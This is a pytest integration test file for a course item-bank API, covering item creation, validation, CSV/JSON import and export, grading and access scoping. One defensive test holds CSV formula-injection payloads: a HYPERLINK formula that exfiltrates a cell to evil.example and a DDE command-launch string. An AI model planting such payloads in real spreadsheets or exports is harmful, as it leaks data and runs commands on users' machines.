"""Item bank API: the three item types, validation, import/export, grading, scoping."""

from __future__ import annotations

import csv
import io

import pytest

from tests.integration.mastery.world import build_world, seed_graph
from tests.sql_statements import SqlStatements


@pytest.fixture
def world(app, client):
    w = build_world(app)
    seed_graph(client, w)
    return w


def items_url(world, path=""):
    return f"/api/v1/courses/{world.course_id}/items{path}"


MC = {
    "key": "mc1",
    "kind": "multiple_choice",
    "prompt": "2 + 2?",
    "concepts": ["add"],
    "difficulty_label": "easy",
    "choices": [{"id": "a", "text": "3"}, {"id": "b", "text": "4"}],
    "answer": {"correct": ["b"]},
}
SHORT = {
    "key": "st1",
    "kind": "short_text",
    "prompt": "Name a shape with three sides",
    "concepts": ["geo", "add"],
    "difficulty_label": "hard",
    "answer": {"accepted": ["Triangle"]},
}


def test_create_each_kind_with_difficulty_from_label(client, world):
    mc = client.post(items_url(world), json=MC, headers=world.teacher).get_json()
    assert mc["difficulty"] == -1.0 and mc["concepts"] == ["add"]
    short = client.post(items_url(world), json=SHORT, headers=world.teacher).get_json()
    assert short["difficulty"] == 1.0 and short["concepts"] == ["add", "geo"]
    numeric = {
        "key": "n1",
        "kind": "numeric",
        "prompt": "1/2 as decimal",
        "concepts": ["frac"],
        "answer": {"value": 0.5, "tolerance": 0.001},
    }
    assert client.post(items_url(world), json=numeric, headers=world.teacher).status_code == 201
    listed = client.get(items_url(world) + "?concept=add", headers=world.teacher).get_json()
    assert {i["key"] for i in listed} == {"mc1", "st1"}
    duplicate = client.post(items_url(world), json=MC, headers=world.teacher)
    assert duplicate.status_code == 409


def test_invalid_items_name_every_bad_field(client, world):
    bad = {
        "kind": "multiple_choice",
        "prompt": "?",
        "concepts": ["ghost"],
        "choices": [{"id": "a", "text": "x"}],
        "answer": {"correct": ["z"]},
    }
    response = client.post(items_url(world), json=bad, headers=world.teacher)
    assert response.status_code == 422
    paths = {e["path"] for e in response.get_json()["errors"]}
    assert paths == {"concepts[0]", "choices", "answer.correct"}
    numeric = {"kind": "numeric", "prompt": "?", "concepts": ["add"], "answer": {"value": "x"}}
    response = client.post(items_url(world), json=numeric, headers=world.teacher)
    assert {e["path"] for e in response.get_json()["errors"]} == {"answer.value"}


def test_update_and_delete(client, world):
    item = client.post(items_url(world), json=MC, headers=world.teacher).get_json()
    changed = client.patch(
        items_url(world, f"/{item['id']}"),
        json={"difficulty_label": "hard", "concepts": ["mul"]},
        headers=world.teacher,
    ).get_json()
    assert changed["difficulty_label"] == "hard" and changed["difficulty"] == 1.0
    assert changed["concepts"] == ["mul"]
    bad = client.patch(
        items_url(world, f"/{item['id']}"),
        json={"answer": {"correct": ["q"]}},
        headers=world.teacher,
    )
    assert bad.status_code == 422
    assert (
        client.delete(items_url(world, f"/{item['id']}"), headers=world.teacher).status_code == 204
    )
    assert client.get(items_url(world, f"/{item['id']}"), headers=world.teacher).status_code == 404


def test_export_import_round_trip_json_and_csv(client, world):
    client.post(items_url(world), json=MC, headers=world.teacher)
    client.post(items_url(world), json=SHORT, headers=world.teacher)
    for fmt in ("json", "csv"):
        exported = client.get(items_url(world, f"/export?format={fmt}"), headers=world.teacher)
        text = exported.get_data(as_text=True)
        body = {"format": fmt, "content": text}
        result = client.post(items_url(world, "/import"), json=body, headers=world.teacher)
        assert result.get_json() == {"created": 0, "updated": 2}
    csv_text = (
        "key,kind,prompt,concepts,difficulty,choices,answer\n"
        'n9,numeric,3*3,mul,medium,,"{""value"": 9}"\n'
    )
    result = client.post(
        items_url(world, "/import"),
        json={"format": "csv", "content": csv_text},
        headers=world.teacher,
    )
    assert result.get_json() == {"created": 1, "updated": 0}
    broken = {
        "document": {
            "items": [
                {"key": "x", "kind": "numeric", "concepts": ["add"], "answer": {}},
                {"key": "x"},
            ]
        }
    }
    response = client.post(items_url(world, "/import"), json=broken, headers=world.teacher)
    assert response.status_code == 422
    paths = {e["path"] for e in response.get_json()["errors"]}
    assert "items[0].answer.value" in paths and "items[1].key" in paths
    assert len(client.get(items_url(world), headers=world.teacher).get_json()) == 3


def test_grading_rules(app):
    from masteryai_lti.core.errors import ValidationFailed
    from masteryai_lti.mastery.models import Item
    from masteryai_lti.mastery.service import grade_response

    mc = Item(kind="multiple_choice", answer={"correct": ["a", "c"]})
    assert grade_response(mc, {"choices": ["c", "a"]}) == (True, 1.0)
    assert grade_response(mc, {"choice": "a"})[0] is False
    num = Item(kind="numeric", answer={"value": 0.5, "tolerance": 0.01})
    assert grade_response(num, {"value": "0,505"})[0] is True
    assert grade_response(num, {"value": 0.52})[0] is False
    for typo in ("nan", "2.5x", "", None):
        with pytest.raises(ValidationFailed):
            grade_response(num, {"value": typo})
    text = Item(kind="short_text", answer={"accepted": ["New  York"]})
    assert grade_response(text, {"text": " new york "})[0] is True
    strict = Item(kind="short_text", answer={"accepted": ["H2O"], "case_sensitive": True})
    assert grade_response(strict, {"text": "h2o"})[0] is False


def test_role_and_tenant_scoping(client, world):
    item = client.post(items_url(world), json=MC, headers=world.teacher).get_json()
    one = items_url(world, f"/{item['id']}")
    for headers, status in (
        (world.student, 403),
        (world.other_teacher, 404),
        (world.outsider, 404),
        (world.foreign_student, 404),
    ):
        assert client.get(items_url(world), headers=headers).status_code == status
        assert client.post(items_url(world), json=MC, headers=headers).status_code == status
        assert client.get(one, headers=headers).status_code == status
        assert client.patch(one, json={"prompt": "x"}, headers=headers).status_code == status
        assert client.delete(one, headers=headers).status_code == status
        assert client.get(items_url(world, "/export"), headers=headers).status_code == status
        assert (
            client.post(
                items_url(world, "/import"), json={"document": {"items": []}}, headers=headers
            ).status_code
            == status
        )
    assert client.get(items_url(world), headers=world.admin).status_code == 200
    # an item id of another course's map is not found through this course
    foreign = f"/api/v1/courses/{world.foreign_course_id}/items/{item['id']}"
    assert client.get(foreign, headers=world.outsider).status_code == 404


def test_activity_mappings(client, world):
    url = f"/api/v1/courses/{world.course_id}/activity-mappings"
    body = {
        "activity_id": "https://h5p.example/quiz/1",
        "concept_keys": ["frac"],
        "difficulty_label": "hard",
    }
    created = client.post(url, json=body, headers=world.teacher)
    assert created.status_code == 201 and created.get_json()["difficulty"] == 1.0
    bad = client.post(url, json={**body, "concept_keys": ["ghost"]}, headers=world.teacher)
    assert bad.status_code == 422
    assert client.post(url, json=body, headers=world.student).status_code == 403
    assert client.get(url, headers=world.outsider).status_code == 404
    listed = client.get(url, headers=world.teacher).get_json()
    assert [m["activity_id"] for m in listed] == ["https://h5p.example/quiz/1"]
    assert client.delete(f"{url}/{listed[0]['id']}", headers=world.student).status_code == 403
    assert client.delete(f"{url}/{listed[0]['id']}", headers=world.teacher).status_code == 204


def test_the_csv_export_hands_a_spreadsheet_no_formula_and_reads_back_whole(client, world):
    attack = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    item = {
        **MC,
        "key": "-neg",
        "prompt": attack,
        "explanation": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    assert client.post(items_url(world), json=item, headers=world.teacher).status_code == 201
    exported = client.get(items_url(world, "/export?format=csv"), headers=world.teacher)
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert f"'{attack}" in cells
    # Edited in a spreadsheet and imported again: the same text, not the marked one.
    client.delete(items_url(world, f"/{_id_of(client, world, '-neg')}"), headers=world.teacher)
    result = client.post(
        items_url(world, "/import"),
        json={"format": "csv", "content": exported.get_data(as_text=True)},
        headers=world.teacher,
    )
    assert result.get_json() == {"created": 1, "updated": 0}
    restored = client.get(
        items_url(world, f"/{_id_of(client, world, '-neg')}"), headers=world.teacher
    ).get_json()
    assert (restored["prompt"], restored["explanation"]) == (attack, item["explanation"])


def _id_of(client, world, key: str) -> int:
    listed = client.get(items_url(world), headers=world.teacher).get_json()
    return next(i["id"] for i in listed if i["key"] == key)


def test_listing_the_bank_costs_the_same_for_a_bigger_bank(app, client, world):
    def statements_to_list() -> tuple[int, int]:
        with SqlStatements(app) as seen:
            response = client.get(items_url(world), headers=world.teacher)
        assert response.status_code == 200
        return seen.count, len(response.get_json())

    def add(count: int, start: int) -> None:
        document = {
            "items": [
                {**SHORT, "key": f"bulk-{n}", "concepts": ["add", "geo"]}
                for n in range(start, start + count)
            ]
        }
        response = client.post(
            items_url(world, "/import"), json={"document": document}, headers=world.teacher
        )
        assert response.status_code == 200, response.get_json()

    add(3, 0)
    small, listed_small = statements_to_list()
    add(30, 3)
    big, listed_big = statements_to_list()
    assert (listed_small, listed_big) == (3, 33)
    assert big == small
